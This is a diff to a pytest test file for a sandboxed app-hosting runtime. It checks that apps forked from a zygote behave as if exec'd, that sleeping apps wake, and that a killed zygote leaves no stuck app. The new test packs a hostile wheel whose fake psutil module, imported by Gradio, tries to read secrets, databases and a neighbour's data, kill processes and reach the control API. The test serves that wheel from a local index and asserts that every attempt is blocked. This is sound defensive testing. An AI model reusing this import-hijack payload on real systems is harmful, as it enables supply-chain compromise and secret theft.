@@ -1,22 +1,30 @@
-"""Apps forked from a zygote on the process backend's sandbox: a real `spaces serve` (SPACES_ZYGOTE=1: it is
-off by default), real Gradio and Streamlit apps, real clients.
+"""Apps forked from a zygote on the process backend's sandbox: a real `spaces serve` (zygotes are on by default),
+real Gradio and Streamlit apps, real clients.
 
 A forked app must not be able to tell it was not exec'd: the probe app reports what an app sees of itself, and a
 twin of it that is exec'd (a space variable the SDK could read at import sends its launch to exec) must report
 the same shape. Sleeping apps (their own sleep time, set by `spaces settings` and by huggingface_hub) hold no
 process and are woken from the zygote by a browser, gradio_client and a Streamlit WebSocket, each served with no
-error. Last, the zygote is killed while an app is being forked: nothing of that app stays behind and it runs
-again.
+error. The zygote is killed while an app is being forked: nothing of that app stays behind and it runs again.
+Last, a package from an index whose module Gradio's import chain imports attacks from inside the zygote (the
+store, the runner's secret, a neighbour's code, /data and processes, the data dir, its own environment, the
+control API): each attempt fails and the neighbour is intact.
 """
 
 from __future__ import annotations
 
+import functools
+import http.server
 import importlib.util
+import io
 import json
 import os
 import signal
+import sqlite3
 import sys
 import threading
+import time
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -30,6 +38,7 @@ from prerequisites import missing
 from example_checks import check_streamlit_script_runs
 from spaces_harness import Platform, gradio_readme, write_app
 from spaces_runtime.sandbox.launcher import slug
+from spaces_runtime.sandbox.processes import find_app
 from spaces_runtime.supervisor.docker import platform_id
 
 pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]
@@ -42,7 +51,8 @@ import gradio as gr
 
 def facts(_: str) -> str:
     status = dict(line.split(":", 1) for line in pathlib.Path("/proc/self/status").read_text().splitlines())
-    caps = {k: status[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")}
+    caps = {k: status[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp",
+                                           "Seccomp_filters")}
     signals = {s.name: str(signal.getsignal(s)) for s in (signal.SIGINT, signal.SIGTERM, signal.SIGPIPE,
                                                            signal.SIGCHLD, signal.SIGHUP)}
     return json.dumps({
@@ -73,8 +83,9 @@ STREAMLIT_APP = "import streamlit as st\nst.title('awake and well')\n"
 @pytest.fixture(scope="module")
 def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
     root = tmp_path_factory.mktemp("zygote")
-    server = Platform(root / "data", env={"SPACES_RUNNER_ENABLED": "false", "SPACES_ZYGOTE": "1"})
+    server = Platform(root / "data", env={"SPACES_RUNNER_ENABLED": "false"})  # zygotes are on by default
     (root / "data").mkdir()
+    (root / "data" / "runner.secret").write_text("a runner secret no zygote may read")
     server.start()
     try:
         probe = write_app(root / "probe", {"README.md": gradio_readme("Probe"), "app.py": PROBE})
@@ -174,6 +185,7 @@ def test_a_sleeping_app_wakes_for_a_browser_visit(platform: Platform) -> None:
 
 
 def _visit(url: str, seen: dict[str, Any]) -> None:
+    shown: list[str] = []  # every response, in order: what the page went through, if it fails
     try:
         sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "browser"))  # the browser tests' helpers
         from browsing import CHROMIUM, CHROMIUM_ARGS
@@ -184,22 +196,23 @@ def _visit(url: str, seen: dict[str, Any]) -> None:
             page = browser.new_page()
             errors: list[str] = []
             page.on("response", lambda r: errors.append(f"{r.status} {r.url}") if _server_error(r) else None)
-            page.goto(url)
-            seen["page"] = lambda: f"{page.url}: {page.content()[:1500]}"  # what it shows, if it fails
-            page.get_by_role("button", name="Submit").click(timeout=120_000)  # the app itself, woken
-            page.locator("textarea").last.wait_for()
-            answered = page.wait_for_function(
-                "() => [...document.querySelectorAll('textarea')].some(t => t.value.includes('pidns'))",
-                timeout=60_000)
+            page.on("response", lambda r: shown.append(f"{time.strftime('%H:%M:%S')} {r.status} {r.url}"))
+            page.on("requestfailed", lambda r: shown.append(f"{time.strftime('%H:%M:%S')} failed {r.url}: "
+                                                            f"{r.failure}"))
+            try:
+                page.goto(url)
+                page.get_by_role("button", name="Submit").click(timeout=120_000)  # the app itself, woken
+                page.locator("textarea").last.wait_for()
+                answered = page.wait_for_function(
+                    "() => [...document.querySelectorAll('textarea')].some(t => t.value.includes('pidns'))",
+                    timeout=60_000)
+            except Exception as exc:  # what the page shows, read while it is still open
+                seen["error"] = f"{exc!r}; the page: {page.url}: {page.content()[:1500]}; responses: {shown[-40:]}"
+                return
             seen.update(answered=bool(answered), server_errors=errors)
             browser.close()
-    except Exception as exc:  # reported to the test's thread, with what the page showed
-        shown = seen.pop("page", None)
-        try:
-            page_text = shown() if shown else "none"
-        except Exception as closed:  # the page went with Playwright: say so rather than lose the first error
-            page_text = f"unreadable ({closed!r})"
-        seen["error"] = f"{exc!r}; the page: {page_text}"
+    except Exception as exc:  # reported to the test's thread
+        seen["error"] = f"{exc!r}; responses: {shown[-40:]}"
 
 
 def _server_error(response: Any) -> bool:
@@ -226,3 +239,138 @@ def test_a_zygote_killed_mid_fork_leaves_no_stuck_app(platform: Platform) -> Non
     left = set(_app_processes(platform, "alice/probe2"))
     assert not (left & old), "a process of the instance the zygote was starting is still there"
     assert not Path(f"/proc/{zygote}").exists()
+
+
+EVIL = "spaces-runtime-test-zygote-attack"
+# what the hostile package does when it is imported: Gradio's import chain tries `import psutil` (and carries
+# on without it), so a package that installs a module of that name runs its code in the zygote, at import
+EVIL_MODULE = '''
+import json, os, signal, socket, sys, types
+T = json.loads({targets!r})
+
+def attempt(action):
+    try:
+        return "SUCCEEDED: " + str(action())[:120]
+    except Exception as exc:
+        return "blocked: " + type(exc).__name__
+
+def write(path):
+    """Into a file that is there on the host (the zygote's own tmpfs may hold any new file it likes)."""
+    with open(path, "r+") as f:
+        f.write("pwned by the zygote")
+    return path
+
+def as_victim(action):
+    """In a child that takes the victim's uid (the zygote's user namespace maps it), so the zygote keeps its own."""
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(r)
+        try:
+            os.setresgid(T["victim_uid"], T["victim_uid"], T["victim_uid"])
+            os.setresuid(T["victim_uid"], T["victim_uid"], T["victim_uid"])
+            result = attempt(action)
+        except Exception as exc:
+            result = "blocked: " + type(exc).__name__
+        os.write(w, result.encode())
+        os._exit(0)
+    os.close(w)
+    answer = os.read(r, 4096).decode()
+    os.waitpid(pid, 0)
+    return answer
+
+report = types.ModuleType("zygote_attack_report")
+report.found = {{
+    "pid": os.getpid(), "uid": os.getuid(),
+    "store": attempt(lambda: open(T["db"], "rb").read(16)),
+    "runner_secret": attempt(lambda: open(T["secret"]).read()),
+    "secrets_key": attempt(lambda: open(T["secrets_key"], "rb").read()),
+    "victim_code": attempt(lambda: open(T["victim_code"]).read()),
+    "victim_data": attempt(lambda: open(T["victim_data"]).read()),
+    "victim_data_as_victim": as_victim(lambda: open(T["victim_data"]).read()),
+    "admin_token": attempt(lambda: open(T["data"] + "/token").read()),
+    "write_data_dir": attempt(lambda: write(T["data"] + "/token")),
+    "write_victim_data": as_victim(lambda: write(T["victim_data"])),
+    "write_own_environment": attempt(lambda: write(os.path.join(os.path.dirname(__file__), "gradio", "__init__.py"))),
+    "platform_code": attempt(lambda: os.listdir(T["platform_code"])),
+    "platform_environ": attempt(lambda: open("/proc/%d/environ" % T["platform_pid"], "rb").read()),
+    "signal_platform": attempt(lambda: os.kill(T["platform_pid"], signal.SIGCONT)),
+    "kill_victim": attempt(lambda: os.kill(T["victim_pid"], signal.SIGKILL)),
+    "kill_victim_as_victim": as_victim(lambda: os.kill(T["victim_pid"], signal.SIGKILL)),
+    "control_api": attempt(lambda: socket.create_connection(("127.0.0.1", T["port"]), timeout=3)),
+}}
+sys.modules[report.__name__] = report
+raise ImportError("no psutil here")  # Gradio goes on as without psutil
+'''
+ATTACKER = '''
+import json, sys
+import gradio as gr
+found = sys.modules["zygote_attack_report"].found  # what the import did, in the zygote: the fork has its memory
+gr.Interface(lambda _: json.dumps(found), "text", "text", api_name="found").launch()
+'''
+
+
+def _evil_wheel(targets: dict[str, object]) -> bytes:
+    buffer = io.BytesIO()
+    info = f"{EVIL.replace('-', '_')}-1.0.dist-info"
+    with zipfile.ZipFile(buffer, "w") as whl:
+        whl.writestr("psutil.py", EVIL_MODULE.format(targets=json.dumps(targets)))
+        whl.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {EVIL}\nVersion: 1.0\n")
+        whl.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        whl.writestr(f"{info}/RECORD", "")
+    return buffer.getvalue()
+
+
+@pytest.fixture
+def index(tmp_path: Path) -> Iterator[tuple[Path, str]]:
+    """A PEP 503 index on loopback: (its folder, its /simple URL)."""
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield tmp_path, f"http://127.0.0.1:{server.server_address[1]}/simple"
+    finally:
+        server.shutdown()
+
+
+def test_a_hostile_package_imported_by_the_zygote_reaches_nothing_outside_it(
+        platform: Platform, index: tuple[Path, str], tmp_path: Path) -> None:
+    platform.wait_for("alice/probe")
+    victim_pid = _app_pid(platform, "alice/probe")
+    victim_uid = _facts(platform, "alice/probe")["uid"]
+    victim_data = platform.data_dir / "sandbox" / "data" / slug("alice/probe") / "victim.txt"
+    victim_data.write_text("the victim's own data")
+    os.chown(victim_data, victim_uid, victim_uid)
+    with sqlite3.connect(platform.data_dir / "spaces.db") as db:
+        code = Path(db.execute("SELECT code_dir FROM spaces WHERE id = 'alice/probe'").fetchone()[0]) / "app.py"
+    assert platform.process is not None
+    targets = {"db": str(platform.data_dir / "spaces.db"), "secret": str(platform.data_dir / "runner.secret"),
+               "secrets_key": str(platform.data_dir / "keys" / "secrets.key"), "victim_code": str(code),
+               "victim_data": str(victim_data), "data": str(platform.data_dir), "victim_uid": victim_uid,
+               "victim_pid": victim_pid, "platform_pid": platform.process.pid, "port": platform.port,
+               "platform_code": str(Path(__file__).resolve().parents[2] / "spaces_runtime")}
+    folder, url = index
+    wheel = f"{EVIL.replace('-', '_')}-1.0-py3-none-any.whl"
+    (folder / "files").mkdir()
+    (folder / "files" / wheel).write_bytes(_evil_wheel(targets))
+    (folder / "simple" / EVIL).mkdir(parents=True)
+    (folder / "simple" / EVIL / "index.html").write_text(f'<a href="../../files/{wheel}">{wheel}</a>')
+    attacker = write_app(tmp_path / "attacker", {"README.md": gradio_readme("Attacker"), "app.py": ATTACKER,
+                                                 "requirements.txt": f"--extra-index-url {url}\n{EVIL}==1.0\n"})
+    platform.cli("deploy", str(attacker), "--name", "mallory/attacker", check=True)
+
+    assert "forked from the gradio zygote" in _run_log(platform, "mallory/attacker")
+    answer = Client(f"{platform.url}/spaces/mallory/attacker/", verbose=False).predict("x", api_name="/found")
+    found = json.loads(str(answer))
+    assert (found.pop("pid"), found.pop("uid")) == (1, 0), "the package ran in the zygote, as root of its namespace"
+    assert {k: v for k, v in found.items() if not v.startswith("blocked")} == {}, found
+    # the victim is intact: serving, same process, its /data as it was; nothing landed in the data dir
+    assert _facts(platform, "alice/probe")["uid"] == victim_uid and _app_pid(platform, "alice/probe") == victim_pid
+    assert victim_data.read_text() == "the victim's own data"
+    assert (platform.data_dir / "token").read_text().strip() == platform.token
+
+
+def _app_pid(platform: Platform, space: str) -> int:
+    pids = find_app(_app_processes(platform, space), nesting=2)
+    assert pids is not None, f"{space} has no forked app process"
+    return pids
